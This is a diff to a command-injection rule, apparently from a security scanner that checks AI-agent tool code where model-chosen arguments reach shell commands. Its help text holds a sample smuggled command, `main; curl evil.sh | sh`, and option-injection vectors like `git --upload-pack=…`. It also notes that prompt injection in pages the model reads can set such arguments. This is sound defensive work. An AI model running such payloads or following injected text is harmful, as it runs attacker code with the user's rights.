@@ -11,11 +11,11 @@ import { fetchedTextRuns } from "./download-and-execute.js";
 import { URL_OPENER_KIND } from "./models/process.js";
 import { NETWORK_REQUEST_KIND } from "./models/network.js";
 import { URL_PATH } from "../analyzer/taint/url-shapes.js";
-import { hasInertOptions, optionInjectionReach, readsNextAsValue, runsOperandsAsCode } from "./models/commands.js";
+import { harmlessOptionSlot, hasInertOptions, optionInjectionReach, readsNextAsValue, runsOperandsAsCode } from "./models/commands.js";
 import { argumentVectorRisk, isFixedFirstElement } from "./util/argument-vector.js";
-import { declaredCapability } from "./util/declared-purpose.js";
+import { declaredCapability, type DeclaredCapability } from "./util/declared-purpose.js";
 import { templateText } from "./util/command-strings.js";
-import { isUnsafe, reportFlow, shapeOf, unreadCheckOf, type UntrustedFlow, untrustedFlows } from "./util/untrusted-flows.js";
+import { attributedFlow, isUnsafe, reportFlow, shapeOf, unreadCheckOf, type UntrustedFlow, untrustedFlows } from "./util/untrusted-flows.js";
 
 /** For an element in option position a pattern counts by its shape (can it start with `-`?), not by being a pattern. */
 const OPTION_GUARDS: readonly GuardKind[] = ["literal-equality", "allow-list", "type-check", "sanitizer-call"];
@@ -57,7 +57,7 @@ export const commandInjection: Rule = {
     cwe: [78, 88],
     summary: "A tool argument becomes part of a shell command line or the program to run.",
     description:
-      "A value the model chooses (a tool argument, which a prompt injection can set) reaches `exec`, `execSync`, a `spawn` with `shell: true`, `sh -c`, shelljs or the program position of `execFile`/`spawn` without an allow-list. Whoever writes the value runs commands as the user. Argument arrays without a shell are safer, but an argument that can start with `-` is still read as an option (`--upload-pack=...`): that is reported at medium, and at high for a program one of whose options carries a command (`git --upload-pack=…`, `rg --pre=…`, `tar --to-command=…`, rules/models/commands.ts). In a shell line, a value that cannot leave its word (only letters, digits and `_.,:/@%+=-` by an anchored pattern, a character-class replace or a format; or single quotes escaped as `'\\''` and written inside single quotes) is judged the same way, as an argument; `JSON.stringify` and double quotes are not shell quoting (`$( )` and backticks run), and a word given to `sh -c`, `ssh host …` or `xargs` is still a command. An argument is not an option after `--`, glued to a constant (`./${f}`, `https://…?u=${u}`, `--grep=${p}`), or as the value of an option that takes one (`rg -e PATTERN`, `kubectl -n NS`, in a shell line `tmux split-window -c '<dir>'`); an argument-vector element that is a command line for a device or remote shell (`adb shell \"am start -n '<pkg>'\"`) starts with the code's word, and is judged by its quoted word inside. A word of `echo`, whose options only change what it prints, is no argument injection. A value refused when it starts with `-` (also after `trim()`) is no option. When the tool says this is what it is for (its name, description and schema declare the act and the argument is the whole command line), the finding is a capability: medium or low, listed under \"What it can do\", and the permission policy asks before each call; it stays an injection when the value crosses a boundary the code or the tool's text meant to keep. A value a server sent (an authorization server's metadata, a redirect's Location) placed in a shell line (also the script of `sh -c` or `powershell -Command` in an argument array), or handed whole to the `open` package as what the system opener starts (it launches apps and `file:` URLs, and on Windows goes through a command line), is reported at medium: whoever answers that request writes part of the command (fetched text run as the whole command is `download-and-execute`); at low when the request goes over https to the package's own service (a constant host, or one only the code's own callers pass, chosen by no setting, argument or other answer). An argument vector built in steps (`args.push(\"--start\", since)`, in a helper or not) keeps what each element was written after: an element right after a constant option is that option's value when the command table says the program takes one, or, for a program the table does not know, when the code writes them as a pair (options that carry code, `-c`, `-e`, excepted); after a launcher's first operand (`npx pkg …`, `node script.js …`, `sudo cmd …`) the arguments belong to the program it names; a vector held in a local array (declared with a literal, then only `push`ed to) is read element by element like the literal itself; and `args[0]` of a local array whose first element only constant `unshift`s change is the code's program.",
+      "A value the model chooses (a tool argument, which a prompt injection can set) reaches `exec`, `execSync`, a `spawn` with `shell: true`, `sh -c`, shelljs or the program position of `execFile`/`spawn` without an allow-list. Whoever writes the value runs commands as the user. Argument arrays without a shell are safer, but an argument that can start with `-` is still read as an option (`--upload-pack=...`): that is reported at medium, and at high for a program one of whose options carries a command (`git --upload-pack=…`, `rg --pre=…`, `tar --to-command=…`, rules/models/commands.ts). In a shell line, a value that cannot leave its word (only letters, digits and `_.,:/@%+=-` by an anchored pattern, a character-class replace or a format; or single quotes escaped as `'\\''` and written inside single quotes) is judged the same way, as an argument; `JSON.stringify` and double quotes are not shell quoting (`$( )` and backticks run), and a word given to `sh -c`, `ssh host …` or `xargs` is still a command. An argument is not an option after `--`, glued to a constant (`./${f}`, `https://…?u=${u}`, `--grep=${p}`), or as the value of an option that takes one (`rg -e PATTERN`, `kubectl -n NS`, in a shell line `tmux split-window -c '<dir>'`); an argument-vector element that is a command line for a device or remote shell (`adb shell \"am start -n '<pkg>'\"`) starts with the code's word, and is judged by its quoted word inside. A word of `echo`, whose options only change what it prints, is no argument injection; nor is an argument after `python -c CODE` (Python reads no more options) or after `sh -c SCRIPT` (it is `$0`, `$1`, not the script). Right after a subcommand whose options only change how it runs (`xcrun simctl spawn <device>`), argument injection is low. A value refused when it starts with `-` (also after `trim()`) is no option. When the tool says this is what it is for (its name, description and schema declare the act and the argument is the whole command line, or starts a command of it after the code's own commands, settings and launchers: `cd \"<dir>\" && env K=V ${command}`), the finding is a capability: medium or low, listed under \"What it can do\", and the permission policy asks before each call; it stays an injection when the value crosses a boundary the code or the tool's text meant to keep. A value a server sent (an authorization server's metadata, a redirect's Location) placed in a shell line (also the script of `sh -c` or `powershell -Command` in an argument array), or handed whole to the `open` package as what the system opener starts (it launches apps and `file:` URLs, and on Windows goes through a command line), is reported at medium: whoever answers that request writes part of the command (fetched text run as the whole command is `download-and-execute`); at low when the request goes over https to the package's own service (a constant host, or one only the code's own callers pass, chosen by no setting, argument or other answer). An argument vector built in steps (`args.push(\"--start\", since)`, in a helper or not) keeps what each element was written after: an element right after a constant option is that option's value when the command table says the program takes one, or, for a program the table does not know, when the code writes them as a pair (options that carry code, `-c`, `-e`, excepted); after a launcher's first operand (`npx pkg …`, `node script.js …`, `sudo cmd …`) the arguments belong to the program it names; a vector held in a local array (declared with a literal, then only `push`ed to) is read element by element like the literal itself; and `args[0]` of a local array whose first element only constant `unshift`s change is the code's program.",
     help: [
       "**Why it matters.** A shell parses `;`, `&&`, `$(...)` and backticks: `branch = \"main; curl evil.sh | sh\"` runs the attacker's command with the user's rights. A prompt injection in any web page, issue or file the model reads can choose tool arguments.",
       "",
@@ -98,8 +98,9 @@ export const commandInjection: Rule = {
         reportFlow(ctx, u, `${what}, past a check the scanner does not read (${unread}); verify that it keeps commands out`, SHELL_FIX, "low");
         continue;
       }
-      const capability = declaredCapability(ctx, u);
-      reportFlow(ctx, u, what, capability?.advice ?? SHELL_FIX, undefined, "", capability);
+      const framed = lineCapability(ctx, hit, breaking);
+      if (framed && "capability" in framed) reportFlow(ctx, framed.u, what, framed.capability.advice, undefined, "", framed.capability);
+      else reportFlow(ctx, framed?.injection ?? u, what, SHELL_FIX);
     }
     const scriptHits = new Set<SinkHit>();
     for (const u of untrustedFlows(ctx, "command-argument", OPTION_GUARDS)) {
@@ -116,15 +117,48 @@ export const commandInjection: Rule = {
       const inOptionPosition = (f: Flow) => f === u.flow || argumentVectorRisk(u.hit, ctx.taint, f).kind === "option";
       const flow = u.hit.flows.find((f) => isUnsafe(ctx, f, "command-argument", OPTION_GUARDS, u.hit, (m) => cannotStartWithDash(m) || isOptionValue(m, risk.program) || isInertWordOfInnerLine(m)) && inOptionPosition(f));
       if (!flow) continue;
-      reportOption(ctx, { hit: u.hit, flow }, risk.program, risk.subcommand, "in its argument array");
+      const at = flow === u.flow ? risk : argumentVectorRisk(u.hit, ctx.taint, flow);
+      reportOption(ctx, { hit: u.hit, flow }, risk.program, risk.subcommand, "in its argument array", at.kind === "option" ? at.before : undefined);
     }
     reportResponseValuesInShellLines(ctx, reportedHits, scriptHits);
   },
 };
 
+/**
+ * The line is a tool's declared capability when one of the values that break
+ * into it is the command the tool says it runs (`cd "<dir>" && ${command}`),
+ * and every other such value comes from the same tools: a folder or variable
+ * that can also break out of its quotes gives the model nothing the command
+ * does not. A value of another tool sharing the line stays an injection, and
+ * is the one reported.
+ */
+function lineCapability(ctx: RuleContext, hit: SinkHit, breaking: readonly Flow[]): { u: UntrustedFlow; capability: DeclaredCapability } | { injection: UntrustedFlow } | undefined {
+  const at = (h: SinkHit) => `${h.location.file}:${h.location.line}:${h.location.column}`;
+  // A helper called by several tools is a hit per calling context at one place: each one's values count.
+  const others = ctx.taint.hitsOf(hit.kind).filter((h) => h !== hit && at(h) === at(hit));
+  for (const flow of breaking) {
+    const capability = declaredCapability(ctx, { hit, flow });
+    if (!capability) continue;
+    const foreign = (f: Flow, h: SinkHit) => !attributedFlow(ctx, f, h).label.name.split(" | ").every((t) => capability.tools.includes(t));
+    const own = breaking.find((f) => foreign(f, hit));
+    if (own) return { injection: { hit, flow: own } };
+    for (const h of others) {
+      const flowOfOther = h.flows.find((f) => isUnsafe(ctx, f, "command-injection", GUARDS, h) && foreign(f, h));
+      if (flowOfOther) return { injection: { hit: h, flow: flowOfOther } };
+    }
+    return { u: { hit, flow }, capability };
+  }
+  return undefined;
+}
+
 /** Argument injection: high for a program with an option that carries its own command (`git --upload-pack=…`), medium otherwise. */
-function reportOption(ctx: RuleContext, u: UntrustedFlow, program: string | undefined, subcommand: string | undefined, where: string): void {
+function reportOption(ctx: RuleContext, u: UntrustedFlow, program: string | undefined, subcommand: string | undefined, where: string, before?: readonly string[]): void {
   if (hasInertOptions(program)) return;
+  if (harmlessOptionSlot(program, before)) {
+    const words = [program, ...(before ?? [])].join(" ");
+    reportFlow(ctx, u, `${where}, right after \`${words}\`, whose options only change how it runs, not what it reads, writes or runs (argument injection of little reach)`, OPTION_FIX, "low", "option");
+    return;
+  }
   const runs = optionInjectionReach(program, subcommand);
   if (runs) reportFlow(ctx, u, `${where}, where a value such as \`${runs.runsCode}…\` is read as an option of ${program} that runs a command (argument injection)`, OPTION_FIX, "high", "option");
   else reportFlow(ctx, u, `${where}, where a value starting with \`-\` is read as an option (argument injection)`, OPTION_FIX, "medium", "option");
